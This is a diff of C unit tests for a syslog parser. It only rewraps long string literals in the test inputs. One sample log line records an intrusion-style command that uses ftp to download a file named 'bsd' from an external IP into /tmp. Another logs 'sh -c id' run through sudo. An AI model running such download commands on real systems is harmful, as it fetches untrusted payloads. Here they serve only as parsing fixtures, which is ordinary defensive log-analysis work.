@@ -99,7 +99,8 @@ TEST(parse_syslog_rfc3164_without_pri_and_odd_tags)
 {
     sl s;
     CHECK(sl_open(&s, 2020));
-    CHECK_EQ(sl_parse(&s, "Jan  2 03:04:05 web01 CRON[999]: (root) CMD (run-parts /etc/cron.hourly)"),
+    CHECK_EQ(sl_parse(&s, "Jan  2 03:04:05 web01 CRON[999]: (root) CMD (run-parts "
+                          "/etc/cron.hourly)"),
              TR_OK);
     CHECK_EQ(s.ev.ts, at(2020, 1, 2, 3, 4, 5));
     CHECK_STR(val(&s, "facility"), "<absent>");
@@ -130,7 +131,8 @@ TEST(parse_syslog_netscaler_shell_command)
     sl s;
     CHECK(sl_open(&s, 2020));
     CHECK_EQ(sl_parse(&s, "Jan 20 08:16:30 <local7.notice> ns bash[2567]: nobody on /dev/pts/0 "
-                          "shell_command=\"/usr/bin/ftp -o /tmp/bsd ftp://test:x@66.42.98.220/bsd\""),
+                          "shell_command=\"/usr/bin/ftp -o /tmp/bsd "
+                          "ftp://test:x@66.42.98.220/bsd\""),
              TR_OK);
     CHECK_STR(val(&s, "facility"), "local7");
     CHECK_STR(val(&s, "severity"), "notice");
@@ -151,7 +153,8 @@ TEST(parse_syslog_sudo_and_bracketed_pairs)
     CHECK_STR(service(&s), "sudo");
     CHECK_STR(val(&s, "USER"), "#-1");
     CHECK_STR(val(&s, "COMMAND"), "/bin/sh -c id");
-    CHECK_STR(val(&s, "message"), "alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/sh -c id");
+    CHECK_STR(val(&s, "message"),
+              "alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/sh -c id");
     CHECK_EQ(sl_parse(&s, "Jan 20 08:18:00 web01 pkexec[4242]: alice: Executing command "
                           "[USER=root] [TTY=/dev/pts/0] [COMMAND=/usr/bin/ls -la]"),
              TR_OK);
@@ -177,7 +180,8 @@ TEST(parse_syslog_rfc5424_structured_data_and_bom)
     sl s;
     CHECK(sl_open(&s, 0));
     CHECK_EQ(sl_parse(&s, "<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 "
-                          "[exampleSDID@32473 iut=\"3\" eventSource=\"Application\" eventID=\"1011\"]"
+                          "[exampleSDID@32473 iut=\"3\" eventSource=\"Application\" "
+                          "eventID=\"1011\"]"
                           "[examplePriority@32473 class=\"high\" note=\"a \\\"q\\\" \\]\"] "
                           "\xEF\xBB\xBF" "An application event log entry"),
              TR_OK);
